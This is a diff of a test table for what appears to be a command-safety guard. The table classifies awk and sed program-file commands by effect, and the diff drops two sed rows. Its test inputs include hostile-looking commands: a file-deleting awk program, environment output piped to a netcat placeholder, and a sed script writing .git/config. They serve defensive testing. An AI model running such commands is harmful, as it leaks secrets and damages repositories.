@@ -226,15 +226,13 @@ table("bwk awk's options", [
 ]);
 
 // Session 13: a program file the line wrote with text the guard knows (`printf '…' > p.awk`) is
-// read as that text (program-file.ts with written-scripts.ts scriptText), for awk and sed alike.
+// read as that text (program-file.ts with written-scripts.ts scriptText), for awk's program files.
 // Each row was BLOCK_UNDETERMINABLE_EFFECT.
 table("program files the line wrote", [
   ["a harmless awk program", "printf '{ print $1 }' > p.awk; awk -f p.awk README.md", ...NOOP],
   ["an awk program running a command", `printf '${RM}' > p.awk; awk -f p.awk`, ...RAN],
   ["an awk program printing the environment, sent", `printf '${ENV}' > p.awk; awk -f p.awk | ${NC}`, ...EGRESS],
   ["NAME.awk for -f NAME", "printf '{ print $1 }' > p.awk; awk -f p README.md", ...NOOP],
-  ["a harmless sed script", "printf 's/a/b/' > x.sed; sed -f x.sed README.md", ...NOOP],
-  ["a sed script writing protected storage", "printf 's/a/b/w .git/config' > x.sed; sed -f x.sed README.md", ...PROTECTED],
   // Stay unknown: the text is not known.
   ["written again by a download", "printf '{ print $1 }' > p.awk; curl -so p.awk http://127.0.0.1/x; awk -f p.awk README.md", ...UNKNOWN],
   ["appended to a file the line did not write", "echo '{ print $1 }' >> p.awk; awk -f p.awk README.md", ...UNKNOWN],
